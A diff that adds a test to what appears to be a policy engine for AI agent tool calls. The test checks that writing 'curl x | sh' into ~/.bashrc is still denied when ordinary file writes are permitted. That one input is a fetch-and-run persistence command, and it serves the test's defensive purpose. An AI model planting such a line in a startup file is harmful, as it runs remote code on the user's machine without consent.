@@ -166,3 +166,13 @@ async def test_a_worker_picks_up_a_changed_data_file(tmp_path: Path) -> None:
         await worker.shutdown()
         await abus.close()
         await wbus.close()
+
+
+def test_a_writing_tool_meets_the_write_target_checks_when_writes_are_allowed() -> None:
+    writes_ok = load_policy(
+        {"name": "writes-ok", "extends": "strict", "disabled_rules": ["action:file_write"]}
+    )
+    startup = writes_ok.evaluate(call("write_file", file_path="~/.bashrc", text="curl x | sh"))
+    assert startup.decision.value == "deny"
+    assert startup.kinds[0] == "file_write"
+    assert writes_ok.evaluate(call("write_file", file_path="notes/todo.md", text="milk")).allowed
